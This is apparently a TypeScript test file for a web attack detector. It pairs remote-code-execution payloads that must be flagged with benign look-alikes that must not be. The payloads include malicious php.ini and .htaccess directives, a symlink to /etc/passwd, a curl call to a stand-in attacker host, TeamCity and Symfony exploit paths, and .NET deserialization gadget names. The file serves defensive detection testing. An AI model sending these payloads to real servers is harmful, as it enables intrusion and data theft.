/**
 * Code injection and exploit bodies, seventh round (docs/detection.md, "i18-code7"): PHP's
 * configuration written where data belongs, a PHP callback in a pair carried as a value, PHP's name lookups and link functions called, a single-quoted string of a lenient JSON body read to
 * its closing quote, a program handed to a parameter named for an executable, a Java class name
 * base64-encoded alone in a field of a plain-text body, .NET gadget types inside a base64 token. Each attack with the
 * class it must give, then look-alikes (filters and searches that use `=`, JSON5 configuration
 * bodies, an application's own binaries, `cmd=list`) that must stay quiet. Values are written
 * decoded; see helpers.ts for the points.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { AttackDetector } from '../../../node/analysis/attacks';
import { extractJson } from '../../../node/analysis/attacks/points/json';
import type { RequestValue } from '../../../node/analysis/attacks/points/types';
import { HOST, namedExamples, RELAXED, tx } from './helpers';

const detector = new AttackDetector(RELAXED);

namedExamples(
  detector,
  [
    // php.ini lines: the directives that let PHP include a remote file or prepend one of the attacker's.
    ['remote includes turned on', 'rce', 'q', 'allow_url_include=1'],
    ['a file prepended to every script', 'rce', 'form', 'auto_prepend_file = php://input'],
    ['the memory limit lifted, blanks around =', 'rce', 'q', 'memory_limit = 512M'],
    ['the extension directory moved to a path', 'rce', 'q', 'extension_dir=/path/to/example'],
    ['a directive of an extension section', 'rce', 'form', 'opcache.jit_max_polymorphic_calls=50'],
    ['a session directive', 'rce', 'json', 'session.referer_check=true'],
    ['an mbstring directive', 'rce', 'cookie', 'mbstring.regex_retry_limit=true'],
    ['a core directive that is an English word, given a boolean', 'rce', 'form', 'engine=true'],
    ['precision given a number', 'rce', 'q', 'precision=14'],
    ['an extension loaded from a library', 'rce', 'q', 'extension=/tmp/x.so'],
    ['a directive in an XML element', 'rce', 'xml', 'unserialize_max_depth=true'],
    [
      'a .user.ini of several lines, a section and a comment',
      'rce',
      'json',
      '[PHP]\nallow_url_fopen = On\n; x\nauto_prepend_file = /tmp/x.txt',
    ],
    ['an .htaccess line of mod_php', 'rce', 'form', 'php_value auto_prepend_file /tmp/x'],
    ['an .htaccess flag turning the engine off', 'rce', 'q', 'php_flag engine off'],
    // PHP functions that call back through a name lookup or change the file system, called.
    ['a name lookup left open', 'rce', 'form', 'gethostbynamE('],
    ['a name lookup of a callback host', 'rce', 'q', "gethostbyname('x.oast.example')"],
    ['chroot called with a tab before its parenthesis', 'rce', 'q', 'chroot\t()'],
    ['a link to the password file', 'rce', 'json', "symlink('/etc/passwd', 'x.txt')"],
    // A pair of a query carried as a value, handing over a PHP callback (Symfony's _path, CVE-2015-4050).
    ['a controller set to a PHP function', 'rce', 'path', '/_fragment?_path=_controller%3Dphpcredits&flag=-1'],
    ['an indexed pair naming phpinfo', 'rce', 'form', 'vars[0]=phpinfo'],
    // A program in a parameter named for the executable a server starts (CVE-2023-42793).
    ['echo as TeamCity exePath', 'rce', 'path', '/app/rest/debug/processes?exePath=echo&params=x'],
    ['a shell by its path as interpreter', 'rce', 'path', '/run?interpreter=/bin/sh'],
    ['cmd.exe by its Windows path as an executable', 'rce', 'path', '/run?executable=C:%5CWindows%5CSystem32%5Ccmd.exe'],
  ],
  [
    ['a filter that names an engine', 'q', 'engine=v8'],
    ['a file-type filter', 'q', 'extension=pdf'],
    ['a sort order', 'q', 'sort=price'],
    ['a key of another configuration', 'q', 'user.name=bob'],
    ['a timeout setting of an application', 'form', 'timeout=30'],
    ['a .properties line of an application', 'form', 'server.port=8080'],
    ['prose naming an .htaccess directive', 'form', 'Use php_value memory_limit to raise it in .htaccess'],
    ['prose naming a directive', 'form', 'Set allow_url_include to Off in php.ini'],
    ['an ini file of an application', 'json', '[app]\nname = shop\ncolor = blue'],
    ['a pair whose value only starts like a PHP function', 'q', 'page=phpinfo2'],
    ['a pair of a word', 'q', 'topic=information'],
    ['a Unix term glossed in prose', 'q', 'symlink (soft link)'],
    ['chroot glossed in prose', 'form', 'chroot (change root)'],
    ['a question naming a PHP function', 'q', 'How to use gethostbyname in PHP'],
    ['an application binary as exePath', 'path', '/settings?exePath=/opt/app/bin/worker'],
    ['a tool named as an executable', 'path', '/settings?executable=tool.exe'],
    ['a protocol verb in cmd', 'path', '/api?cmd=list'],
    ['a format named binary', 'path', '/export?binary=true'],
    ['echo in a parameter of no executable', 'path', '/search?q=echo'],
  ],
);

/** The classes found in a POST of `body` declared as `type`, each once. */
const bodyClasses = (type: string, body: string) => [
  ...new Set(
    detector
      .detect(tx({ method: 'POST', target: '/post', headers: [HOST, ['Content-Type', type]], body }))
      ?.hits.map((h) => h.class) ?? [],
  ),
];
const classesOf = (body: string) => bodyClasses('application/json', body);

/** The values a lenient reading of `text` gives, as `point = value`. */
function lenientValues(text: string): string[] {
  const out: string[] = [];
  extractJson(text, 16, (v: RequestValue) => (out.push(`${v.point.slice(1).join('.')} = ${v.value}`), true), true);
  return out;
}

test('lenient JSON: a single-quoted string is read to its closing quote, blanks and all', () => {
  assert.deepEqual(lenientValues(`{"nmap_cmd": 'curl host.example'}`), ['nmap_cmd = nmap_cmd', 'nmap_cmd = curl host.example']);
});

test('lenient JSON: a single-quoted key, an escaped quote and a double quote inside', () => {
  assert.deepEqual(lenientValues(`{'a': 'it\\'s "x" fine', b: 2,}`), ['a = a', `a = it's "x" fine`, 'b = b', 'b = 2']);
});

test('lenient JSON: an apostrophe inside a bare word is no string', () => {
  assert.deepEqual(lenientValues(`{"a": don't stop}`), ['a = a', "a = don't", 'a = stop']);
});

test('rce: a command line single-quoted in a command-named field of a body that is no JSON (CVE-2023-50094)', () => {
  assert.ok(classesOf(`{"nmap_cmd": 'curl cb7f3k.attacker.example.net'}`).includes('rce'));
});

test('benign: a JSON5 configuration body with single-quoted prose', () => {
  assert.deepEqual(classesOf(`{name: 'my shop', motto: 'we sell what we like', tags: ['a b', 'c'],}`), []);
});

const textClasses = (body: string) => bodyClasses('text/plain', body);

test('rce: a Java class name base64-encoded alone in a field of a plain-text body (CRS 944300)', () => {
  assert.ok(textClasses('test=cnVudGltZQ').includes('rce'));
  assert.ok(textClasses('test=HJ1bnRpbWU').includes('rce'), 'runtime behind one byte');
  assert.ok(textClasses('a=1&test=cHJvY2Vzc2J1aWxkZXI').includes('rce'), 'processbuilder');
});

test('benign: the word runtime itself and inside a longer encoding (a token of claims, a sentence)', () => {
  assert.deepEqual(textClasses('mode=runtime&x=1'), []);
  assert.deepEqual(textClasses('session=eyJzdWIiOiJydW50aW1lIiwieCI6MX0'), []);
  assert.deepEqual(textClasses('token=dGhlIGphdmEgcnVudGltZSBpcyBmYXN0'), []);
});

/** A header of a BinaryFormatter stream sent base64-encoded, its magic mangled (no `AAEAAAD/////`), then the types it names. */
const formatterToken = (types: string) =>
  Buffer.concat([
    Buffer.from([0, 1, 0, 0, 0, 0xc3, 0xbf, 0xc3, 0xbf, 1]),
    Buffer.from(types, 'latin1'),
    Buffer.from([1, 0]),
  ]).toString('base64');
const headerClasses = (value: string) => [
  ...new Set(detector.detect(tx({ target: '/', headers: [HOST, ['X-Access-Token', value]] }))?.hits.map((h) => h.class) ?? []),
];

test('rce: .NET gadget types named inside a base64 BinaryFormatter token (CVE-2025-27218)', () => {
  assert.ok(headerClasses(formatterToken(')System.Security.Principal.WindowsIdentity')).includes('rce'));
  assert.ok(headerClasses(formatterToken('xMicrosoft.VisualStudio.Text.Formatting.TextFormattingRunProperties')).includes('rce'));
});

test('benign: base64 tokens naming Windows accounts and providers in prose or JSON', () => {
  assert.deepEqual(headerClasses(Buffer.from('{"provider":"windows","identity":"bob"}').toString('base64')), []);
  assert.deepEqual(headerClasses(Buffer.from('Windows identity of the principal user').toString('base64')), []);
});

test('benign: a single-quoted protocol verb in cmd', () => {
  assert.deepEqual(classesOf(`{"cmd": 'list all'}`), []);
});
